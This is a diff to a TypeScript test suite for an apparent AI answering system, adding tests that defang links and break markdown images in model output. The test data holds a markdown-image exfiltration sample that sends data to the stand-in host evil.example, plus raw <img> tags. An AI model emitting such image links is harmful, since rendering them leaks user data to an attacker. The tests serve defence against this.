@@ -94,11 +94,54 @@ describe('claims on the way', () => {
     const told: (string | null)[] = [];
     const onClaim = (line: string | null) => void told.push(line);
     const answer = await ask('How many requests may a caller make?', {}, undefined, { onClaim });
-    expect(told).toEqual(['Ten. [1]', null, 'Ten. [1]', 'See evil.example. [2]']);
+    expect(told).toEqual(['Ten. [1]', null, 'Ten. [1]', 'See evil[.]example. [2]']);
     expect(answer).toMatchObject({
-      answer: 'Ten. [1]\n\nSee evil.example. [2]',
+      answer: 'Ten. [1]\n\nSee evil[.]example. [2]',
       droppedLinks: 1,
       unsupportedClaims: 1,
     });
+  });
+});
+
+describe('what a model says is missing', () => {
+  const SAID = 'The price [2]: ![x](https://evil.example/p?d=ten), www.evil.example/ten\u200b and <img src=x>.';
+
+  it.each(['none', 'partial'] as const)('is as safe as claims are, and counted: %s', async (sufficiency) => {
+    const { ask } = await setUp(
+      scripted((evidence) => ({
+        sufficiency,
+        claims: [claim('Ten.', [holding(evidence, 'ten requests'), 'ten requests a second'])],
+        missing: SAID,
+      })),
+    );
+    const { missing, answer, droppedLinks } = await ask('requests');
+    expect(missing).toBe('The price: x, evil[.]example and .');
+    expect(droppedLinks).toBe(3);
+    if (sufficiency === 'none') expect(answer).toContain(missing);
+  });
+
+  it('and names of the question make no image', async () => {
+    const { ask } = await setUp(scripted(() => ({})));
+    const { answer, missing } = await ask('What is `a![x](https://evil.example/p)`?');
+    expect(`${answer} ${missing}`).not.toContain('![');
+  });
+});
+
+describe('a passage quoted as it stands', () => {
+  const TEXT =
+    'Badge: ![build](https://img.example.org/b.svg) and\u00ad <img src="https://img.example.org/c.png"> here.';
+
+  it('loads nothing where it is shown, and is cited to the letter', async () => {
+    const { ask } = await setUp(
+      scripted((evidence) => ({ claims: [claim(TEXT, [holding(evidence, 'Badge'), TEXT])] })),
+      { 'badge.md': `# Badge\n\n${TEXT}\n` },
+    );
+    const { answer, claims, citations, droppedLinks } = await ask('badge');
+    const shown =
+      'Badge: ! [build](https://img.example.org/b.svg) and < img src="https://img.example.org/c.png"> here.';
+    expect(answer).toBe(`${shown} [1]`);
+    expect(claims[0]?.text).toBe(shown);
+    expect(citations[0]?.quote).toBe(TEXT);
+    expect(droppedLinks).toBe(0);
   });
 });
